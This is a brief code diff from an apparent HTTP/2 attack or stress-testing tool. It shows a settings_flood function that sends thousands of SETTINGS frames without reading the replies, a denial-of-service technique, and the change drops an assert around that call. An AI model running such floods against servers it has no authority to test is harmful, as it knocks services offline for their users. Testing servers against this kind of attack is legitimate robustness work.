@@ -410,7 +410,7 @@ def stream_flood(target: Target) -> None:
 def settings_flood(target: Target) -> None:
     """Settings, each of which has to be answered, and no answer is read."""
     connection = Http2(target)
-    assert flood(connection.socket, (frame(4, 0, 0) * 5000 for _ in range(100))) >= 0
+    flood(connection.socket, (frame(4, 0, 0) * 5000 for _ in range(100)))
 
 
 @attack
